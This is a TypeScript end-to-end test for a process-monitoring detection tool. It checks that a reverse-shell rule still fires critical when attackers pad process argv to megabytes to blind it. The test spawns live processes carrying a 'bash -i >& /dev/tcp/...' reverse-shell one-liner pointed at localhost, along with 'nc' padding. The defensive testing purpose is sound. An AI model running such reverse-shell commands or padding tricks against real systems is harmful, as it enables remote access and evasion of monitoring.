// End to end: a live reverse shell beside processes whose argv is megabytes long (the trial's way to blind the
// critical rule by sheer volume), with collection.argv lowered in the run's configuration so that a few
// processes of 1 MB stand for forty of 6 MB. The reverse shell must stay critical, every rule must run, and
// every cut must be said: on stderr, in detect's output rows (the marker argument) and in a query.
import {writeFileSync} from 'node:fs';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
import {SuspectProcesses} from '../helpers/suspects.js';

const dir = tempDir();
const env = isolatedEnv(dir);
const suspects = new SuspectProcesses();
// A bare environment: argv and environment share the kernel's 2 MB limit (8 MB stack).
const BARE = {env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}};
const config = join(dir, 'argv.yaml');
// Limits far below the defaults: 4 processes of 1 MB are cut as 40 of 6 MB would be by the defaults.
const LIMITS = {floor: 4096, ceiling: 65_536, budget: 150_000};

/** `count` arguments of 100,000 bytes of `nc ` (the trial's padding). */
const padding = (count: number): string[] => Array.from({length: count}, () => 'nc '.repeat(33_334).slice(0, 100_000));

const paddedPids: number[] = [];
let headPid = 0;
let tailPid = 0;
let detect: {code: number; stdout: string; stderr: string};

beforeAll(async () => {
  writeFileSync(config, `collection:\n  argv:\n    floor: ${LIMITS.floor}\n    ceiling: ${LIMITS.ceiling}\n    budget: ${LIMITS.budget}\n`);
  for (let i = 0; i < 4; i++) paddedPids.push(await suspects.start('bash', ['-c', 'sleep 300; exit', 'x', ...padding(10)], BARE));
  // The live reverse shell, its script first and 1 MB after it: the head kept holds the payload.
  headPid = await suspects.reverseShell(BARE, undefined, padding(10));
  // A shell whose payload is its last argument, after 1 MB: the tail kept holds it.
  tailPid = await suspects.start('bash', ['-c', 'sleep 300; exit', 'x', ...padding(10), 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], BARE);
  detect = await runCli(['detect', '--format', 'json', '--config', config], {env, timeoutMs: 300_000});
}, 400_000);

afterAll(() => {
  suspects.stopAll();
  removeDir(dir);
});

describe('detect beside processes with megabytes of argv, collection.argv lowered', () => {
  it('reports the reverse shell critical (payload in the head kept, and in the tail kept), every rule run', () => {
    expect(detect.code, detect.stderr).toBe(0);
    const output = JSON.parse(detect.stdout) as {
      alerts: Alert[];
      summary: {rules_run: number; rules_ok: number; failed: string[]; timed_out: string[]; not_run: string[]};
    };
    const {summary} = output;
    expect({failed: summary.failed, timed_out: summary.timed_out, not_run: summary.not_run}).toEqual({failed: [], timed_out: [], not_run: []});
    expect(summary.rules_ok).toBe(summary.rules_run);
    const reverse = output.alerts.find((alert) => alert.rule_id === 'reverse-shell-command-line');
    expect(reverse?.severity).toBe('critical');
    expect(reverse?.affected_processes).toEqual(expect.arrayContaining([headPid, tailPid]));
    // The rows the alert carries hold the cut argv, marker and all, never the megabyte.
    const rows = (reverse?.alert_data as {processes: {pid: number; cmdline: string}[]}).processes;
    const row = rows.find((r) => r.pid === headPid);
    expect(row?.cmdline).toMatch(/^\/bin\/bash -c bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1; true nc nc /);
    expect(row?.cmdline).toMatch(/\[daemoneye: [\d,]+ of 1,000,0\d\d bytes of argv not kept\]/);
    expect(row?.cmdline.length).toBeLessThanOrEqual(LIMITS.ceiling + 200);
  });

  it('the built-in oversized-command-line rule names every process cut (medium)', () => {
    const output = JSON.parse(detect.stdout) as {alerts: Alert[]};
    const oversized = output.alerts.find((alert) => alert.rule_id === 'oversized-command-line');
    expect(oversized?.severity).toBe('medium');
    expect(oversized?.affected_processes).toEqual(expect.arrayContaining([...paddedPids, headPid, tailPid]));
  });

  it('names every process cut on stderr, one collection-limit line', () => {
    const lines = detect.stderr.split('\n').filter((line) => line.includes('collection limit: '));
    expect(lines).toHaveLength(1);
    // Ours are six; a process another test runs at the same time may be cut too (the line counts the host's).
    const counted = /(\d+) processes have a longer command line than the scan kept/.exec(lines[0] ?? '');
    expect(Number(counted?.[1])).toBeGreaterThanOrEqual(6);
    for (const pid of [...paddedPids, headPid, tailPid]) expect(lines[0]).toMatch(new RegExp(`pid ${pid}: [\\d,]+ of 1,000,0\\d\\d bytes`));
    expect(lines[0]).toMatch(/raise collection\.argv/);
  });

  it('a query finds the processes cut by their marker; within the budget in all', async () => {
    const sql = "select pid, length(cmdline) as n from processes where instr(cmdline, ' bytes of argv not kept]') > 0 and name = 'bash'";
    const result = await runCli(['query', '--config', config, '--format', 'json', sql], {env, timeoutMs: 120_000});
    expect(result.code, result.stderr).toBe(0);
    const rows = JSON.parse(result.stdout) as {pid: number; n: number}[];
    // Every one of ours is cut; another test's long bash may be cut beside them (the host is shared).
    expect(rows.map((r) => r.pid)).toEqual(expect.arrayContaining([...paddedPids, headPid, tailPid]));
    // Six long argvs share what the budget leaves: none kept past the ceiling, all of them within the budget.
    for (const r of rows) expect(r.n).toBeLessThanOrEqual(LIMITS.ceiling + 200);
    expect(rows.reduce((sum, r) => sum + r.n, 0)).toBeLessThanOrEqual(LIMITS.budget);
    expect(result.stderr).toMatch(/collection limit: /);
  });
});
